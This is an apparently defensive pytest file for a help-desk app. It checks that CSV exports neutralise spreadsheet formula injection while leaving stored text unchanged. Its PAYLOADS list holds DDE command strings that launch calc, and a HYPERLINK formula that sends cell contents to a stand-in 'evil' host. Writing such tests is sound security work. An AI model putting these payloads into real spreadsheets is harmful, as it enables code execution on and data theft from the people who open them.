"""CSV formula injection, and its bad fixes: neutral in the exported file, untouched everywhere else."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tests.desks import Clock, acting, make_file
from tests.threats.world import PROFILES, World, opened
from trellis.desk.desk import Desk
from trellis.rules.people import Person, Role
from trellis.rules.tickets import Intake, Query, Told, View
from trellis.store.ids import new_id

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "“=1+1”",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹢1",
    "−1",
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "=WEBSERVICE(1)",
    "%0A-3+3+cmd|' /C calc'!D2",
    ";=1+1",
]
FORMULA = tuple("=+-@\t\r＝＋－＠﹢﹣﹦﹫−")


def filled(desk: Desk, world: World, payload: str) -> None:
    """The payload in every text field a person can fill."""
    acting(desk, world.advisor)
    helper = desk.people.add(Person(new_id(), payload, payload, role=Role.TECH)).value.id
    made = desk.tickets.open(
        Intake(
            f"{payload}\n{payload}",
            None,
            f"{payload} x",
            payload,
            payload,
            category=payload,
            tags=(payload, "a;" + payload),
        )
    ).value
    desk.tickets.hand_over(made.id, helper, payload)
    desk.tickets.reply(made.id, payload, Told.SLIP, 5)
    desk.tickets.log_work(made.id, 5, helper)
    desk.tickets.wait(made.id, payload)
    desk.tickets.resolve(made.id, payload, payload)


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def as_shown(cell: str) -> str:
    """How a spreadsheet may take a cell: blanks, invisible marks and quotes before it passed over."""
    return cell.lstrip(" \n\u00a0\u200b\ufeff\"'“”" if cell[:1] != "'" else "")


def test_every_field_is_neutral_in_both_files_and_comes_back(desk: Desk, world: World, tmp_path: Path, clock: Clock):
    for payload in PAYLOADS:
        filled(desk, world, payload)
    tickets, said = tmp_path / "1.csv", tmp_path / "said.csv"
    desk.transfer.export_tickets(tickets, Query(View.ALL), said)
    found = cells(tickets) + cells(said)
    assert sum(cell.startswith("'") for cell in found) > 8 * len(PAYLOADS)
    for cell in found:
        assert not as_shown(cell).startswith(FORMULA), cell
    crew = make_file(tmp_path / "fresh" / "fresh.trellis")
    with opened(tmp_path / "fresh" / "fresh.trellis", crew.advisor, clock) as fresh:
        fresh.transfer.import_tickets(tickets, "trellis", said)
        there = {row.id: fresh.tickets.detail(row.id) for row in fresh.tickets.page(Query(View.ALL), most=500)}
    for row in desk.tickets.page(Query(View.ALL), most=500):
        mine, theirs = desk.tickets.detail(row.id), there[row.id]
        for field in "title body room device category tags waiting_reason resolution learned".split():
            assert getattr(theirs.ticket, field) == getattr(mine.ticket, field)
        assert [i.entry.body for i in theirs.thread] == [i.entry.body for i in mine.thread]
        assert theirs.requester_name == mine.requester_name


def test_the_collected_payloads(desk: Desk, world: World, shared_data: Path, tmp_path: Path):
    for payload in (shared_data / "hostile" / "csv_injection_payloadbox.txt").read_text("utf-8").splitlines():
        if payload.strip():
            filled(desk, world, payload)
    desk.transfer.export_tickets(tmp_path / "1.csv", Query(View.ALL), tmp_path / "2.csv")
    for cell in cells(tmp_path / "1.csv") + cells(tmp_path / "2.csv"):
        assert not as_shown(cell).startswith(FORMULA), cell


@pytest.mark.parametrize("typed", PAYLOADS)
def test_nothing_is_refused_or_changed_when_it_is_typed(desk: Desk, world: World, typed: str):
    acting(desk, world.maya)
    words = f"-first\n{typed}\n+49 30 1234\n=end"
    made = desk.tickets.open(Intake(words)).value
    assert made.title == "-first"
    assert made.body == words.removeprefix("-first").strip("\n")
    assert desk.tickets.reply(made.id, words).value.body == words
    desk.tickets.page(Query(View.ALL, typed))


def test_secrets_phone_numbers_and_searches_may_begin_with_them(desk: Desk, world: World):
    desk.keys.sign_in(world.advisor, "plum orbit lantern quiet")
    desk.keys.change_passphrase("plum orbit lantern quiet", "=kettle +saffron @bicycle -moss")
    desk.keys.sign_out()
    desk.keys.sign_in(world.advisor, "=kettle +saffron @bicycle -moss")
    desk.tickets.open(Intake("+49 30 1234 rings"))
    assert [row.title for row in desk.tickets.page(Query(View.ALL, "+49"))] == ["+49 30 1234 rings"]
    assert all(row.title != "+49 30 1234 rings" for row in desk.tickets.page(Query(View.ALL, "-rings")))
    desk.keys.sign_out()


def test_only_one_place_writes_rows():
    """No second way out that forgets the guard."""
    source = Path(PROFILES).parents[1] / "src"
    writers = [path.name for path in source.rglob("*.py") if "csv.writer(" in path.read_text("utf-8")]
    assert writers == ["rows.py"]
